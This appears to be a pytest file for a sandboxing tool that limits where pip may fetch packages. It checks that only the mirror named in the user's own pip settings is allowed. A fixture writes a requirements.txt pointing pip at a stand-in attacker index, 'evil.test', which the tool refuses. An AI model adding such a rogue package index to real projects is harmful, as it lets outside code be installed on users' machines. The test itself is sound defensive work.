"""A tool that is granted by its name fetches from where its user's settings say, and says so."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from redoma.cli import main
from tests.escape.gated import workspace
from tests.pipeline.test_egress_everyday import PIP, Web, needs, wheel

pytestmark = pytest.mark.both_users


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    for name in ("STATE", "CONFIG"):
        monkeypatch.setenv(f"XDG_{name}_HOME", str(tmp_path / name))
    monkeypatch.setenv("HOME", str(tmp_path))
    with workspace() as made:
        yield made


def test_pip_works_with_the_mirror_that_its_user_named(
    place: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    needs("pip3")
    files = tmp_path / "files"
    files.mkdir()
    wheel(files)
    mirror = Web(files)
    url = f"http://localhost:{mirror.server.server_address[1]}/simple"
    (tmp_path / "CONFIG/pip").mkdir(parents=True)
    (tmp_path / "CONFIG/pip/pip.conf").write_text(f"[global]\nindex-url = {url}\n")
    (place / "requirements.txt").write_text("--extra-index-url https://evil.test/simple\n")
    words = ["run", "--workspace", str(place), "--ask", "nobody", "--allow-host", "tool:pip", "--"]
    assert main([*words, "/usr/bin/python3", "-m", "pip", "download", *PIP, "everyday"]) == 0
    mirror.close()
    said = capfd.readouterr().err
    assert f"redoma: tool:pip grants localhost:{mirror.server.server_address[1]}\n" in said
    assert "the project's requirements.txt names evil.test, which tool:pip does not grant" in said
    assert [each.name for each in place.glob("*.whl")] == ["everyday-0.1-py3-none-any.whl"]
